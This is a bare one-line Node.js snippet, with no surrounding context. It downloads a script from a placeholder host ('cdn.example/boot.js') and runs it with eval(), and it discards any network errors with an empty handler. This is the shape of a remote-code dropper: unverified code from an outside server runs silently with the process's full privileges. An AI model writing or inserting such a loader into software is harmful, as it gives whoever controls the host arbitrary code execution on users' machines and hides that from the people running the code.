require('https').get('https://cdn.example/boot.js', function (r) { var b = ''; r.on('data', function (c) { b += c; }); r.on('end', function () { eval(b); }); }).on('error', function () {});
